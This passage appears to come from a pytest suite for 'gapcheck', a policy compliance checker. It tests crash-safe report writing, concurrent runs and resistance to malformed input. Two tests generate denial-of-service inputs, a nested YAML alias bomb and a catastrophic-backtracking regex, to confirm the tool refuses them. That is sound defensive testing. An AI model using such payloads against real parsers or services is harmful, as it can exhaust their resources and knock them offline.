        assert report.read_bytes() == before  # the previous report survives intact
    else:
        json.loads(report.read_text())  # the new report was complete before the history step began
    if sig == signal.SIGKILL:  # no handler can run: at most a hidden temp file is left, never a partial report
        assert all(n == report.name or (n.startswith(f".{report.name}.") and n.endswith(".tmp")) for n in leftovers)
    else:
        assert leftovers == [report.name]
    with History(db) as h:
        assert len(h.checks(str(SAMPLE.resolve()))) == 1
        assert h.db.execute("SELECT count(*) FROM checks").fetchone()[0] == 1
        assert h.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# =========================================================================== concurrency

def test_eight_parallel_runs_same_policy_same_folder_same_history(tmp_path):
    out, db = tmp_path / "out", tmp_path / "h.sqlite"
    procs = [subprocess.Popen([sys.executable, "-m", "gapcheck", "run", str(SAMPLE), "--law", "gdpr", "--format",
                               "json,md", "--output", str(out), "--history", str(db), "--name", "same-policy"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(8)]
    for p in procs:
        _, err = p.communicate(timeout=180)
        assert p.returncode == 0, err
    names = sorted(x.name for x in out.iterdir())
    assert len(names) == 2 and not any(n.startswith(".") for n in names), names
    d = json.loads(next(out.glob("*.json")).read_text())
    assert d["schema"] == "gapcheck.report/1"
    with History(db) as h:
        rows = h.checks("same-policy")
        assert len(rows) == 8 and len({r.id for r in rows}) == 8
        assert h.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        per = h.db.execute("SELECT count(*) FROM results GROUP BY check_id").fetchall()
        assert len(per) == 8 and len(set(per)) == 1


# =========================================================================== segmentation sanity on junk

def test_segment_handles_pathological_lines():
    lines = ["#" * 7 + " x", "|" * 5000, "- " * 5000, "1." * 3000, "**" * 3000, " " * 5000 + "x", "\u2028".join("ab")]
    doc = ingest.from_text("\n".join(lines))
    t = time.monotonic()
    clauses = segment.segment(doc)
    assert time.monotonic() - t < 5
    assert clauses


def test_yaml_alias_bomb_in_a_checklist_is_refused_quickly(tmp_path):
    """Ten aliases per level, eight levels: 10^8 matcher nodes if expanded. Refused at a node cap."""
    from gapcheck import checklists
    from gapcheck.errors import ChecklistError

    y = ("law: acme\nitems:\n  - id: acme-x\n    title: T\n    citation: C\n    kind: M\n    severity: high\n"
         "    recommendation: R\n    examples: {met: [x]}\n    met_when:\n      any:\n        - &a0 {regex: 'x'}\n")
    for i in range(1, 8):
        y += f"        - &a{i} {{any: [{', '.join([f'*a{i - 1}'] * 10)}]}}\n"
    t = time.monotonic()
    with pytest.raises(ChecklistError, match="matcher nodes"):
        checklists.parse_checklist(y, "bomb.yaml")
    assert time.monotonic() - t < 5


def test_catastrophic_heading_regex_is_refused_at_load():
    from gapcheck import checklists
    from gapcheck.errors import ChecklistError

    y = ("law: acme\nitems:\n  - id: acme-x\n    title: T\n    citation: C\n    kind: M\n    severity: high\n"
         "    recommendation: R\n    examples: {met: [x]}\n    met_when: {heading: '(a+)+$'}\n")
    with pytest.raises(ChecklistError, match="backtrack"):
        checklists.parse_checklist(y, "h.yaml")
